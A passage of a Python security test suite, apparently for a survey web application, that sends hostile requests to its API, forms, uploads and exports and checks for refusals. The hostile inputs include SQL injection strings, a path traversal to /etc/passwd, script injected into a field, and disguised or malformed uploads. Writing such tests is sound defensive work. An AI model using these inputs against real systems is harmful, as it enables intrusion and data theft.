        connection.close()

    def coding(**changes) -> bytes:
        payload = {"respondent": respondent, "question": "system_name", "kind": "answer", "theme_id": top}
        for key, value in changes.items():
            if value is ...:
                payload.pop(key, None)
            else:
                payload[key] = value
        return body(payload)

    g = "reading-room-themes"
    add("themes without a token", g, r.get(themes), 401)
    add("themes with an edit token", g, r.get(themes, token=s1.token), 401)
    add("theme: colour 'red'", g, r.json("POST", themes, body({"name": "x", "colour": "red"}), token=analyst), 422,
        check=problem_type("/problems/invalid-theme"))
    add("theme: colour with a script", g, r.json("POST", themes, body({"name": "x", "colour": "#12345\"><script>"}),
                                                  token=analyst), 422)
    add("theme: blank name", g, r.json("POST", themes, body({"name": " \t ", "colour": "#000000"}), token=analyst), 422)
    add("theme: 201-character name", g, r.json("POST", themes, body({"name": "n" * 201, "colour": "#000000"}),
                                               token=analyst), 422)
    add("theme: control character in the name", g,
        r.json("POST", themes, body({"name": "a\u0000b", "colour": "#000000"}), token=analyst), 422)
    add("theme: name is a number", g, r.json("POST", themes, body({"name": 5, "colour": "#000000"}), token=analyst), 400)
    add("theme: unknown member", g,
        r.json("POST", themes, body({"name": "x", "colour": "#000000", "admin": True}), token=analyst), 400)
    add("theme: no colour", g, r.json("POST", themes, body({"name": "x"}), token=analyst), 400)
    add("theme: body is a list", g, r.json("POST", themes, b"[]", token=analyst), 400)
    add("theme: text/plain", g, r.build("POST", themes, data=b"{}", ctype="text/plain", token=analyst), 415)
    add("theme: 2 MiB name", g, r.json("POST", themes, body({"name": "n" * (2 * MIB), "colour": "#000000"}),
                                       token=analyst), 413)
    add("theme: unknown parent", g,
        r.json("POST", themes, body({"name": "x", "colour": "#000000", "parent_id": 999999}), token=analyst), 404)
    add("theme: parent 1.5", g,
        r.json("POST", themes, body({"name": "x", "colour": "#000000", "parent_id": 1.5}), token=analyst), 400)
    add("theme: a fourth level", g,
        r.json("POST", themes, body({"name": "x", "colour": "#000000", "parent_id": deepest}), token=analyst), 422)
    add("theme: a taken name", g, r.json("POST", themes, body({"name": "Hostile top", "colour": "#000000"}),
                                         token=analyst), 409, check=problem_type("/problems/duplicate-theme"))
    add("theme: SQL in the name of a taken place", g,
        r.json("POST", themes, body({"name": SQL_INJECTION, "colour": "#000000", "parent_id": deepest}),
               token=analyst), 422)
    add("PATCH an unknown theme", g, r.json("PATCH", f"{themes}/999999", body({"name": "y"}), token=analyst), 404)
    add("PATCH a theme id that is not a number", g, r.json("PATCH", f"{themes}/abc", body({"name": "y"}),
                                                          token=analyst), 404)
    add("PATCH a theme id of 40 digits", g, r.json("PATCH", f"{themes}/{'9' * 40}", body({"name": "y"}),
                                                  token=analyst), 404)
    add("PATCH a retired theme", g, r.json("PATCH", f"{themes}/{retired}", body({"name": "y"}), token=analyst), 409,
        check=problem_type("/problems/theme-inactive"))
    add("PATCH: move a theme under its own sub-theme", g,
        r.json("PATCH", f"{themes}/{top}", body({"parent_id": deepest}), token=analyst), 422)
    add("PATCH: bad colour", g, r.json("PATCH", f"{themes}/{top}", body({"colour": "#GGGGGG"}), token=analyst), 422)
    add("PATCH without a token", g, r.json("PATCH", f"{themes}/{top}", body({"name": "y"})), 401)
    add("merge into itself", g, r.json("POST", f"{themes}/{deepest}/merge", body({"into": deepest}), token=analyst),
        422)
    add("merge into an unknown theme", g,
        r.json("POST", f"{themes}/{deepest}/merge", body({"into": 999999}), token=analyst), 404)
    add("merge into a retired theme", g,
        r.json("POST", f"{themes}/{deepest}/merge", body({"into": retired}), token=analyst), 409)
    add("merge a theme with sub-themes", g,
        r.json("POST", f"{themes}/{top}/merge", body({"into": retired}), token=analyst), {409, 422})
    add("merge: no into", g, r.json("POST", f"{themes}/{deepest}/merge", body({}), token=analyst), 400)
    add("merge: into is text", g, r.json("POST", f"{themes}/{deepest}/merge", body({"into": "top"}), token=analyst),
        400)
    add("retire a retired theme", g, r.build("POST", f"{themes}/{retired}/retire", token=analyst), 409)
    add("retire an unknown theme", g, r.build("POST", f"{themes}/999999/retire", token=analyst), 404)
    add("coding: unknown theme", g, r.json("POST", codings, coding(theme_id=999999), token=analyst), 404,
        check=problem_type("/problems/unknown-theme"))
    add("coding: retired theme", g, r.json("POST", codings, coding(theme_id=retired), token=analyst), 409)
    add("coding: span outside the text", g, r.json("POST", codings, coding(start=0, end=100000), token=analyst), 422)
    add("coding: start after end", g, r.json("POST", codings, coding(start=5, end=2), token=analyst), 422)
    add("coding: empty span", g, r.json("POST", codings, coding(start=3, end=3), token=analyst), 422)
    add("coding: negative start", g, r.json("POST", codings, coding(start=-1, end=2), token=analyst), 422)
    add("coding: start without end", g, r.json("POST", codings, coding(start=1), token=analyst), 422)
    add("coding: start 1e300", g, r.json("POST", codings, coding(start=1e300, end=2), token=analyst), 422)
    add("coding: start as text", g, r.json("POST", codings, coding(start="0", end=2), token=analyst), 422)
    add("coding: unknown kind", g, r.json("POST", codings, coding(kind="essay"), token=analyst), 422)
    add("coding: a question without text", g, r.json("POST", codings, coding(question="country"), token=analyst), 422)
    add("coding: unknown respondent", g, r.json("POST", codings, coding(respondent="r-0000000000000000"),
                                                token=analyst), 404)
    add("coding: SQL as respondent", g, r.json("POST", codings, coding(respondent=SQL_INJECTION), token=analyst), 404)
    add("coding: no theme", g, r.json("POST", codings, coding(theme_id=...), token=analyst), 400)
    add("coding: unknown member", g, r.json("POST", codings, coding(coder_id=1), token=analyst), 400)
    add("coding without a token", g, r.json("POST", codings, coding()), 401)
    add("coding with an edit token", g, r.json("POST", codings, coding(), token=s1.token), 401)
    add("remove an unknown coding", g, r.build("DELETE", f"{codings}/999999", token=analyst), 404)
    add("remove a coding id that is not a number", g, r.build("DELETE", f"{codings}/x1", token=analyst), 404)
    add("remove a coding without a token", g, r.build("DELETE", f"{codings}/1"), 401)
    respondents = f"/api/v1/surveys/{SURVEY}/respondents"
    add("unknown respondent", g, r.get(f"{respondents}/r-0000000000000000", token=analyst), 404)
    add("respondent ?versions=some", g, r.get(f"{respondents}/{respondent}?versions=some", token=analyst), 400)
    add("respondent without a token", g, r.get(f"{respondents}/{respondent}"), 401)
    add("respondent with its own edit token", g, r.get(f"{respondents}/{respondent}", token=s1.token), 401)
    add("respondent path traversal", g, r.get(f"{respondents}/..%2F..%2Fetc%2Fpasswd", token=analyst), 404)
    add("agreement without a token", g, r.get(f"/api/v1/surveys/{SURVEY}/agreement"), 401)
    add("agreement.csv with an edit token", g, r.get(f"/api/v1/surveys/{SURVEY}/agreement.csv", token=s1.token), 401)
    add("themes page form without a session", g,
        r.form(f"/analyst/s/{SURVEY}/themes", "name=x&colour=%23000000"), {401, 403})
    add("themes page form without the form token", g,
        r.form(f"/analyst/s/{SURVEY}/themes", "name=x&colour=%23000000", cookie=ctx.analyst_cookie), 403)
    add("coding page form without the form token", g,
        r.form(f"/analyst/s/{SURVEY}/respondents/{respondent}/codings",
               f"field=system_name%7Canswer&theme_id={top}&scope=whole", cookie=ctx.analyst_cookie), 403)
    add("theme change form without the form token", g,
        r.form(f"/analyst/s/{SURVEY}/themes/{top}", "action=retire", cookie=ctx.analyst_cookie), 403)


@dataclass
class Secret:
    id: str
    token: str


def submitted_draft(ctx) -> Secret:
    """A draft with complete answers, submitted through the API (before the cases run)."""
    r = Requests(ctx.port)
    created = ctx.call(r.json("POST", DRAFTS, body({"answers": answers(system_name="Submitted draft")})))
    if created.status != 201:
        raise SystemExit(f"hostile: creating a draft to submit failed: {created.status} {created.body[:300]!r}")
    draft = json.loads(created.body)
    done = ctx.call(r.build("POST", f"/api/v1/drafts/{draft['id']}/submit", token=draft["resume_token"]))
    if done.status != 201:
        raise SystemExit(f"hostile: submitting a draft failed: {done.status} {done.body[:300]!r}")
    return Secret(draft["id"], draft["resume_token"])


def fill_draft_cap(ctx, most: int = 1_000):
    """Empty drafts from this address until the server refuses one: the cases then meet the cap."""
    r = Requests(ctx.port)
    for _ in range(most):
        reply = ctx.call(r.json("POST", DRAFTS, b"{}"))
        if reply.status == 429:
            return
        if reply.status != 201:
            raise SystemExit(f"hostile: filling the draft cap: {reply.status} {reply.body[:300]!r}")
    raise SystemExit(f"hostile: {most} open drafts from one address and no cap")



# consult serve's connection timeouts (seconds) when none are given.
DEFAULT_LIMITS = {"header": 10, "body": 30, "idle": 15}
EXPORT_FILES = ["analysis.xml", "analysis.zip", "analysis/choices.csv", "responses.csv", "responses.xml"]
EXPORT_FILES += ["analysis.xlsx", "responses.xlsx"]  # XLSX workbooks (issue 17)
EXPORT_FILES += ["responses.sav", "responses.dta"]  # SPSS and Stata (issue #17)


def no_export_files():
    def check(reply, ctx):
        left = ctx.export_files()
        return [f"{len(left)} export files left in the server's temporary folder: {left[:3]}"] if left else []
    return check


def header_is(name: str, expected: str):
    def check(reply, ctx):
        value = reply.header(name)
        return [] if value == expected else [f"{name} is {value!r}, expected {expected!r}"]
    return check


def hangs_up_on(path: str):
    """Starts a download of `path`, reads its first bytes, closes the connection, and finds no file left."""
    def check(reply, ctx):
        first = ctx.abort_download(path)
        problems = [] if first.startswith(b"HTTP/1.1 200") else [f"the download began with {first[:40]!r}"]
        return problems + no_export_files()(reply, ctx)
    return check


def slow_clients_closed(kind: str, count: int):
    def check(reply, ctx):
        import slow_clients
        limits = ctx.limits or DEFAULT_LIMITS  # a server without the options must still close them in time
        limit = {"header": limits["header"], "body": limits["body"], "idle": limits["idle"],
                 "kept-alive": limits["idle"]}[kind]
        normal = []

        def meanwhile():
            started = time.monotonic()
            answer = ctx.call(ctx.requests.get("/healthz"))
            normal.append((answer.status, time.monotonic() - started))

        durations, _ = slow_clients.hold(ctx.port, kind, count, interval=1.0, give_up=limit + 10, while_open=meanwhile)
        problems = []
        late = [d for d in durations if d is None or d > limit + 2]
        if late:
            problems.append(f"{kind}: {len(late)} of {count} connections outlived the {limit} s timeout by over 2 s "
                            f"({slow_clients.summary(durations)})")
        early = [d for d in durations if d is not None and d < limit - 1]
        if early:
            problems.append(f"{kind}: {len(early)} connections closed before the {limit} s timeout")
        if not normal or normal[0][0] != 200 or normal[0][1] > 2:
            problems.append(f"a normal request meanwhile got {normal}")
        return problems
    return check


def chunked(data: bytes, size: int = 65536) -> bytes:
    out = bytearray()
    for start in range(0, len(data), size):
        part = data[start:start + size]
        out += f"{len(part):x}\r\n".encode() + part + b"\r\n"
    return bytes(out + b"0\r\n\r\n")


# ------------------------------------------------------------------------------- extra checks
# Each returns a function (reply, ctx) -> list of problems.


def errors_name(question: str):
    def check(reply, ctx):
        try:
            errors = json.loads(reply.body).get("errors") or []
        except (ValueError, AttributeError):
            return ["the body is not a JSON object"]
        if not any(isinstance(e, dict) and e.get("question") == question for e in errors):
            return [f"errors do not name {question!r}: {errors[:3]!r}"]
        return []
    return check


def urllib_unquote(text: str) -> str:
    """A query string as a person reads it, for case names."""
    import urllib.parse
    return urllib.parse.unquote(text)


def problem_type(expected: str):
    def check(reply, ctx):
        try:
            kind = json.loads(reply.body).get("type")
        except (ValueError, AttributeError):
            return ["the body is not a JSON object"]
        return [] if kind == expected else [f"problem type {kind!r}, expected {expected!r}"]
    return check


def json_equals(expected):
    def check(reply, ctx):
        try:
            value = json.loads(reply.body)
        except ValueError:
            return ["the body is not JSON"]
        return [] if value == expected else [f"body {value!r:.200}, expected {expected!r}"]
    return check


def json_member(name: str, expected):
    def check(reply, ctx):
        try:
            value = json.loads(reply.body).get(name)
        except (ValueError, AttributeError):
            return ["the body is not a JSON object"]
        return [] if value == expected and type(value) is type(expected) else [f"{name} is {value!r}, expected {expected!r}"]
    return check


def sets_no_cookie(name: str):
    def check(reply, ctx):
        cookies = [value for key, value in (reply.final.headers if reply.final else []) if key.lower() == "set-cookie"]
        bound = [value for value in cookies if value.startswith(name + "=") and "Max-Age=0" not in value]
        return [f"the answer sets {bound[0][:80]!r}"] if bound else []
    return check


def has_header(name: str):
    def check(reply, ctx):
        return [] if reply.header(name) else [f"no {name} header"]
    return check


def within(seconds: float):
    def check(reply, ctx):
        return [] if reply.elapsed <= seconds else [f"took {reply.elapsed:.1f} s (limit {seconds} s)"]
    return check


def responses_count(count: int):
    def check(reply, ctx):
        return [] if reply.response_count == count else [f"{reply.response_count} responses, expected {count}"]
    return check


def all_of(*checks):
    def check(reply, ctx):
        problems = []
        for one in checks:
            problems += one(reply, ctx)
        return problems
    return check


def comes_back(expected: dict):
    """The accepted submission reads back (with its edit token) with exactly these answers."""
    def check(reply, ctx):
        if reply.status != 201:
            return []
        try:
            created = json.loads(reply.body)
            stored = ctx.read_submission(created["id"], created["edit_token"])
        except Exception as error:  # noqa: BLE001 - any failure is a finding
            return [f"cannot read the accepted submission back: {error}"]
        problems = []
        for question, value in expected.items():
            got = stored.get("answers", {}).get(question)
            if got != value or (isinstance(value, int) and not isinstance(value, bool) and got is not None
                                and int(got) != value):
                problems.append(f"{question} came back as {json.dumps(got)[:120]}, sent {json.dumps(value)[:120]}")
        return problems
    return check


def xml_export_well_formed():
    def check(reply, ctx):
        import xml.etree.ElementTree as ET
        problems = []
        for export in ("responses.xml", "analysis.xml"):
            status, data = ctx.download(f"/api/v1/surveys/{SURVEY}/{export}")
            if status != 200:
                problems.append(f"{export}: status {status}")
                continue
            try:
                ET.fromstring(data)
            except ET.ParseError as error:
                problems.append(f"{export} is not well-formed XML: {error}")
        return problems
    return check


def xml_export_keeps(text: str):
    def check(reply, ctx):
        import xml.etree.ElementTree as ET
        status, data = ctx.download(f"/api/v1/surveys/{SURVEY}/responses.xml")
        if status != 200:
            return [f"responses.xml: status {status}"]
        if b"<!DOCTYPE" in data or b"<!ENTITY" in data:
            return ["responses.xml contains a raw DOCTYPE/ENTITY from an answer"]
        try:
            root = ET.fromstring(data)
        except ET.ParseError as error:
            return [f"responses.xml is not well-formed XML: {error}"]
        if not any((element.text or "") == text for element in root.iter()):
            return ["responses.xml does not hold the answer's text verbatim as element text"]
        if any(element.get("question") == "admin" for element in root.iter()):
            return ["responses.xml gained an injected <answer question=\"admin\"> element"]
        return []
    return check


def exports_keep_exactly(text: str):
    """The text is whole in responses.csv and the open-text table (NUL and all), and in both XML
    documents with U+FFFD exactly where XML 1.0 forbids a character (Exports/README.md)."""
    def xml_safe(value: str) -> str:
        allowed = lambda c: c in "\t\n\r" or 0x20 <= ord(c) <= 0xD7FF or 0xE000 <= ord(c) <= 0xFFFD or ord(c) >= 0x10000
        return "".join(c if allowed(c) else "\ufffd" for c in value)

    def check(reply, ctx):
        import csv
        import io
        import xml.etree.ElementTree as ET
        if reply.status != 201:
            return []
        problems = []
        for export in ("responses.csv", "analysis/open_text.csv"):
            status, data = ctx.download(f"/api/v1/surveys/{SURVEY}/{export}")
            if status != 200:
                problems.append(f"{export}: status {status}")
                continue
            cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]
            if text not in cells:
                cut = [cell for cell in cells if cell and text.startswith(cell)]
                problems.append(f"{export} does not hold the text whole (found {cut[:1]!r})")
        for export in ("responses.xml", "analysis.xml"):
            status, data = ctx.download(f"/api/v1/surveys/{SURVEY}/{export}")
            if status != 200:
                problems.append(f"{export}: status {status}")
                continue
            if not any((element.text or "") == xml_safe(text) for element in ET.fromstring(data).iter()):
                problems.append(f"{export} does not hold the text with U+FFFD for what XML forbids")
        return problems
    return check


def csv_export_neutralises(marker: str):
    def check(reply, ctx):
        import csv
        import io
        status, data = ctx.download(f"/api/v1/surveys/{SURVEY}/responses.csv")
        if status != 200:
            return [f"responses.csv: status {status}"]
        cells = [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row if marker in cell]
        if not cells:
            return ["responses.csv does not hold the formula text"]
        bad = [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
        return [f"responses.csv has a live formula cell: {bad[0][:60]!r}"] if bad else []
    return check


def xlsx_export_keeps_as_text(text: str):
    """XLSX (issue 17): responses.xlsx holds the text in a string cell, never a formula, exactly once its
    SpreadsheetML `_xHHHH_` escapes are decoded (Exports/README.md); read with the standard library."""
    def check(reply, ctx):
        import io
        import re
        import xml.etree.ElementTree as ET
        import zipfile
        status, data = ctx.download(f"/api/v1/surveys/{SURVEY}/responses.xlsx")
        if status != 200:
            return [f"responses.xlsx: status {status}"]
        main = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
        try:
            with zipfile.ZipFile(io.BytesIO(data)) as archive:
                sheets = [ET.fromstring(archive.read(name)) for name in archive.namelist()
                          if name.startswith("xl/worksheets/sheet")]
        except (zipfile.BadZipFile, ET.ParseError) as error:
            return [f"responses.xlsx cannot be read: {error}"]
        if any(next(sheet.iter(f"{main}f"), None) is not None for sheet in sheets):
            return ["responses.xlsx holds a formula cell"]
        decode = lambda value: re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), value)
        texts = [decode("".join(t.text or "" for t in cell.iter(f"{main}t")))
                 for sheet in sheets for cell in sheet.iter(f"{main}c") if cell.get("t") == "inlineStr"]
        return [] if text in texts else ["responses.xlsx does not hold the text in a string cell"]
    return check


# ---------------------------------------------------------------- Position papers (issue 16): uploads
PAPERS = "position-papers"
PAPER_UPLOAD = f"/api/v1/surveys/{PAPERS}/files?question=paper&name=paper.pdf"
PAPER_PDF = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n" + b"A" * 3000 + b"\nstartxref\n0\n%%EOF\n"


def paper_answers(files: list) -> dict:
    return {"sector": "academia", "country": "BE", "publication": "public_anonymous", "paper": files}


def position_paper_cases(ctx, r: Requests, add) -> None:
    """Uploads and the submissions that name them. Seeds one staged upload and one submission
    with a file and an idempotency key first (before the cases' fingerprint is taken)."""
    def upload(data: bytes, token: str | None = None, name: str = "paper.pdf", **options) -> bytes:
        headers = [("Upload-Token", token)] if token else []
        target = f"/api/v1/surveys/{PAPERS}/files?question=paper&name={urllib_quote(name)}"
        return r.build("POST", target, data=data, ctype="application/pdf", headers=headers, **options)

    staged = ctx.call(upload(PAPER_PDF))
    if staged.status != 201:
        raise SystemExit(f"hostile: seeding an upload failed: {staged.status} {staged.body[:300]!r}")
    seeded = json.loads(staged.body)
    token, file = seeded["upload_token"], seeded["file"]
    other_seed = json.loads(ctx.call(upload(PAPER_PDF + b"%%EOF\n")).body)
    key = f"paper-{uuid.uuid4()}"
    submit_paper = r.json("POST", f"/api/v1/surveys/{PAPERS}/submissions",
                          body({"answers": paper_answers([other_seed["file"]])}),
                          headers=[("Upload-Token", other_seed["upload_token"]), ("Idempotency-Key", key)])
    first = ctx.call(submit_paper)
    if first.status != 201:
        raise SystemExit(f"hostile: seeding a submission with a file failed: {first.status} {first.body[:300]!r}")

    g = "uploads"
    add("upload: a file named .pdf that is not one", g, upload(b"MZ\x90\x00 not a PDF at all", token), 415,
        check=problem_type("/problems/file-kind"))
    add("upload: a PDF header without its trailer", g, upload(PAPER_PDF[:100], token), 415,
        check=problem_type("/problems/file-kind"))
    add("upload: a ZIP that is neither DOCX nor ODT", g,
        upload(b"PK\x03\x04" + b"\x00" * 40 + b"PK\x05\x06" + b"\x00" * 18, token, name="paper.docx"), 415,
        check=problem_type("/problems/file-kind"))
    add("upload: text with a NUL byte", g, upload(b"plain\x00text", token, name="notes.txt"), 415,
        check=problem_type("/problems/file-kind"))
    add("upload: an empty file", g, upload(b"", token), 422, check=problem_type("/problems/empty-file"))
    over = PAPER_PDF + b" " * (10 * MIB + 1 - len(PAPER_PDF))
    add("upload: one byte over 10 MiB (declared length)", g, upload(over, token), 413,
        check=problem_type("/problems/file-too-large"), close_ok=True, timeout=60)
    add("upload: one byte over 10 MiB, chunked (refused while read)", g,
        r.build("POST", PAPER_UPLOAD, data=chunked(over), ctype="application/pdf", length=False,
                headers=[("Upload-Token", token), ("Transfer-Encoding", "chunked")]), 413,
        check=problem_type("/problems/file-too-large"), close_ok=True, timeout=60)
    add("upload: names with ../, NUL and a right-to-left override (same bytes: the staged file)", g,
        upload(PAPER_PDF, token, name="../../etc/pa\x00ss\u202efdp.exe"), 200,
        check=json_equals({"file": file, "question": "paper", "upload_token": token}))
    add("upload: a question that takes no files", g,
        r.build("POST", f"/api/v1/surveys/{PAPERS}/files?question=summary", data=PAPER_PDF, ctype="application/pdf"),
        422)
    add("upload: an Upload-Token too short", g, upload(PAPER_PDF, "short"), 400)
    add("upload: cut short", g, upload(PAPER_PDF, token)[:-500], {400, 413}, close_ok=True, half_close=True,
        framing=True)
    many = [dict(file, id=f"f{index}") for index in range(4)]
    add("submission: many tiny files (four where three are allowed)", g,
        r.json("POST", f"/api/v1/surveys/{PAPERS}/submissions", body({"answers": paper_answers(many)}),
               headers=[("Upload-Token", token)]), 422, check=problem_type("/problems/invalid-answers"))
    add("submission: a file of another owner", g,
        r.json("POST", f"/api/v1/surveys/{PAPERS}/submissions", body({"answers": paper_answers([file])})), 422,
        check=problem_type("/problems/unknown-file"))
    add("submission: a staged file with a forged hash", g,
        r.json("POST", f"/api/v1/surveys/{PAPERS}/submissions",
               body({"answers": paper_answers([dict(file, sha256="0" * 64)])}), headers=[("Upload-Token", token)]),
        422, check=problem_type("/problems/unknown-file"))
    add("submission: an already bound file named again", g,
        r.json("POST", f"/api/v1/surveys/{PAPERS}/submissions", body({"answers": paper_answers([other_seed["file"]])}),
               headers=[("Upload-Token", other_seed["upload_token"])]), 422,
        check=problem_type("/problems/unknown-file"))
    add("submission with files retried with its idempotency key", g, submit_paper, 201,
        check=json_member("id", json.loads(first.body)["id"]))
    add("form: multipart without a boundary", g,
        r.build("POST", f"/s/{PAPERS}/page/2", data=b"x", ctype="multipart/form-data"), 400)
    add("form: multipart cut before its closing boundary", g,
        r.build("POST", f"/s/{PAPERS}/page/2", ctype="multipart/form-data; boundary=XyZ",
                data=b'--XyZ\r\nContent-Disposition: form-data; name="csrf"\r\n\r\nabc'), 400)
    parts = b"".join(b'--B\r\nContent-Disposition: form-data; name="x"\r\n\r\n1\r\n' for _ in range(600)) + b"--B--\r\n"
    add("form: 600 tiny parts", g,
        r.build("POST", f"/s/{PAPERS}/page/2", ctype="multipart/form-data; boundary=B", data=parts), 400)


def urllib_quote(text: str) -> str:
    import urllib.parse
    return urllib.parse.quote(text, safe="")


def campaign_cases(ctx, r: Requests, add) -> None:
    """campaigns: the clusters' API and pages. Seeds one cluster of every seeded submission of
    SURVEY (rows as the detector writes them) before the cases' fingerprint is taken; no case may
    change anything (the only successful requests are reads)."""
    import sqlite3

    analyst, s1 = ctx.analyst, ctx.submissions[0]
    connection = sqlite3.connect(str(ctx.server.db), timeout=10)
    try:
        # The server's campaign worker places the seeded submissions first; once it is done, its
        # clusters of SURVEY give way to one cluster of every seeded submission, so the cases know it.
        deadline = time.monotonic() + 60
        while connection.execute("SELECT count(*) FROM near_duplicate_queue").fetchone()[0]:
            if time.monotonic() > deadline:
                raise SystemExit("hostile: the campaign worker did not empty its queue within 60 s")
            time.sleep(0.2)
        with connection:
            connection.execute(
                "DELETE FROM campaign_member WHERE submission_seq IN (SELECT seq FROM submission WHERE survey_id = ?)",
                (SURVEY,))
            connection.execute(
                "DELETE FROM campaign_cluster WHERE survey_id = ? AND id NOT IN (SELECT cluster_id FROM campaign_member "
                "WHERE cluster_id IS NOT NULL)", (SURVEY,))
            cluster = connection.execute(
                "INSERT INTO campaign_cluster (survey_id, scope, representative_seq, created_at_ms) "
                "SELECT ?, '', min(seq), 1 FROM submission WHERE survey_id = ?", (SURVEY, SURVEY)).lastrowid
            connection.execute(
                "INSERT INTO campaign_member (submission_seq, scope, cluster_id, similarity, joined_at_ms) "
                "SELECT seq, '', ?, 0.9, 2 FROM submission WHERE survey_id = ?", (cluster, SURVEY))
        respondent = connection.execute(
            "SELECT p.pseudonym FROM respondent_pseudonym p JOIN submission s ON s.seq = p.submission_seq WHERE s.id = ?",
            (s1.id,)).fetchone()[0]
        size = connection.execute("SELECT count(*) FROM campaign_member WHERE cluster_id = ?", (cluster,)).fetchone()[0]
    finally:
        connection.close()
    if size < 3:
        raise SystemExit(f"hostile: the campaign cases need at least 3 seeded submissions, found {size}")

    g = "campaigns"
    campaigns = f"/api/v1/surveys/{SURVEY}/campaigns"
    one = f"{campaigns}/{cluster}"
    add("campaigns without a token", g, r.get(campaigns), 401)
    add("campaigns with an edit token", g, r.get(campaigns, token=s1.token), 401)
    add("campaigns of an unknown survey", g, r.get("/api/v1/surveys/no-such-survey/campaigns", token=analyst), 404)
    add("campaigns: unknown scope", g, r.get(f"{campaigns}?scope=nope", token=analyst), 422)
    add("campaigns: SQL as scope", g, r.get(f"{campaigns}?scope=%27%20OR%201%3D1--", token=analyst), 422)
    add("campaigns listed", g, r.get(campaigns, token=analyst), 200)
    add("cluster shown with a comparison", g, r.get(f"{one}?compare={respondent}", token=analyst), 200)
    add("cluster: unknown", g, r.get(f"{campaigns}/999999", token=analyst), 404,
        check=problem_type("/problems/unknown-cluster"))
    add("cluster: id that is not a number", g, r.get(f"{campaigns}/abc", token=analyst), 404)
    add("cluster: id of 40 digits", g, r.get(f"{campaigns}/{'9' * 40}", token=analyst), 404)
    add("cluster: compare an unknown respondent", g, r.get(f"{one}?compare=r-0000000000000000", token=analyst), 404,
        check=problem_type("/problems/unknown-cluster-member"))
    add("cluster: compare with SQL", g, r.get(f"{one}?compare=%27%20OR%201%3D1--", token=analyst), 404)
    add("cluster without a token", g, r.get(one), 401)
    add("confirm: no reason", g, r.json("POST", f"{one}/confirm", body({}), token=analyst), 422)
    add("confirm: blank reason", g, r.json("POST", f"{one}/confirm", body({"reason": " \t "}), token=analyst), 422)
    add("confirm: reason with NUL", g, r.json("POST", f"{one}/confirm", body({"reason": "a\u0000b"}), token=analyst), 422)
    add("confirm: 1001-character reason", g, r.json("POST", f"{one}/confirm", body({"reason": "r" * 1001}), token=analyst), 422)
    add("confirm: reason is a number", g, r.json("POST", f"{one}/confirm", body({"reason": 5}), token=analyst), 422)
    add("confirm: unknown member", g, r.json("POST", f"{one}/confirm", body({"reason": "x", "admin": True}), token=analyst), 400)
    add("confirm: body is a list", g, r.json("POST", f"{one}/confirm", b"[]", token=analyst), 400)
    add("confirm: text/plain", g, r.build("POST", f"{one}/confirm", data=b"{}", ctype="text/plain", token=analyst), 415)
    add("confirm: 2 MiB reason", g, r.json("POST", f"{one}/confirm", body({"reason": "r" * (2 * MIB)}), token=analyst), 413)
    add("confirm without a token", g, r.json("POST", f"{one}/confirm", body({"reason": "x"})), 401)
    add("confirm with an edit token", g, r.json("POST", f"{one}/confirm", body({"reason": "x"}), token=s1.token), 401)
    add("confirm an unknown cluster", g, r.json("POST", f"{campaigns}/999999/confirm", body({"reason": "x"}), token=analyst), 404)
    add("dismiss: SQL as reason, unknown cluster", g,
        r.json("POST", f"{campaigns}/999999/dismiss", body({"reason": SQL_INJECTION}), token=analyst), 404)
    add("split: members is text", g, r.json("POST", f"{one}/split", body({"reason": "x", "members": "r-1"}), token=analyst), 422)
    add("split: members are numbers", g, r.json("POST", f"{one}/split", body({"reason": "x", "members": [1, 2]}), token=analyst), 422)
    add("split: no members", g, r.json("POST", f"{one}/split", body({"reason": "x", "members": []}), token=analyst), 422)
    add("split: 501 members", g, r.json("POST", f"{one}/split", body({"reason": "x", "members": ["r-1"] * 501}), token=analyst), 422)
    add("split: one member", g, r.json("POST", f"{one}/split", body({"reason": "x", "members": [respondent]}), token=analyst), 409,
        check=problem_type("/problems/cluster-conflict"))
    add("split: unknown members", g,
        r.json("POST", f"{one}/split", body({"reason": "x", "members": ["r-0000000000000000", SQL_INJECTION]}), token=analyst), 404)
    add("move: no member", g, r.json("POST", f"{one}/move", body({"reason": "x"}), token=analyst), 422)
    add("move: into its own cluster", g,
        r.json("POST", f"{one}/move", body({"reason": "x", "member": respondent, "to": cluster}), token=analyst), 422)
    add("move: to is text", g, r.json("POST", f"{one}/move", body({"reason": "x", "member": respondent, "to": "1"}), token=analyst), 422)
    add("move: to 1e300", g, r.json("POST", f"{one}/move", body({"reason": "x", "member": respondent, "to": 1e300}), token=analyst), 422)
    add("move: to an unknown cluster", g,
        r.json("POST", f"{one}/move", body({"reason": "x", "member": respondent, "to": 999999}), token=analyst), 404)
    add("move: unknown member", g, r.json("POST", f"{one}/move", body({"reason": "x", "member": "r-0000000000000000"}), token=analyst), 404)
    add("campaigns page without a session", g, r.get(f"/analyst/s/{SURVEY}/campaigns"), {401, 403})
    add("cluster page form without a session", g, r.form(f"/analyst/s/{SURVEY}/campaigns/{cluster}", "action=confirm&reason=x"), {401, 403})
    add("cluster page form without the form token", g,
        r.form(f"/analyst/s/{SURVEY}/campaigns/{cluster}", "action=confirm&reason=x", cookie=ctx.analyst_cookie), 403)
